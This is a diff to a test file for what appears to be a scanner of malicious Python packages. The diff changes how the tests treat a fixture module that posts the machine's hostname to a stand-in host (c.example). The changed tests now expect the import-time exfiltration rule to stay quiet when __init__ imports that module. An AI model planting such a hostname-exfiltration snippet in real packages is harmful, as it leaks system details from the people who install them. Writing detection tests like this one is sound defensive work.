@@ -84,13 +84,11 @@ def test_npm_tests_folder_versus_required_from_main(judged):
 
 def test_roles_follow_imports(judged):
     sysinfo = "import socket, requests\nrequests.post('https://c.example/h', data={'h': socket.gethostname()})\n"
-    # Imported from __init__: runs at import, so the import-time rule applies.
-    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "from .net import *\n", "pkg/net.py": sysinfo}), P, "pkg")
-    f = next(f for f in v["findings"] if f["rule"] == "STATIC-SYSINFO-EXFIL")
-    assert f["evidence"]["role"] == "import"
     # Imported by setup.py: runs at install.
     v = judged(sdist("pkg", {"setup.py": "from pkg import net\n" + SETUP, "pkg/__init__.py": "", "pkg/net.py": sysinfo}), P, "pkg")
     assert next(f for f in v["findings"] if f["rule"] == "STATIC-SYSINFO-EXFIL")["evidence"]["role"] == "install"
-    # Imported by nothing: only runs when called; the import-time rule stays quiet.
-    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/net.py": sysinfo}), P, "pkg")
-    assert "STATIC-SYSINFO-EXFIL" not in v["rules_fired"]
+    # Imported by nothing, or by __init__ (a module of definitions, mostly): the install/import
+    # rule stays quiet; rules for any role still apply to it as shipping code.
+    for init in ("", "from .net import *\n"):
+        v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": init, "pkg/net.py": sysinfo}), P, "pkg")
+        assert "STATIC-SYSINFO-EXFIL" not in v["rules_fired"]
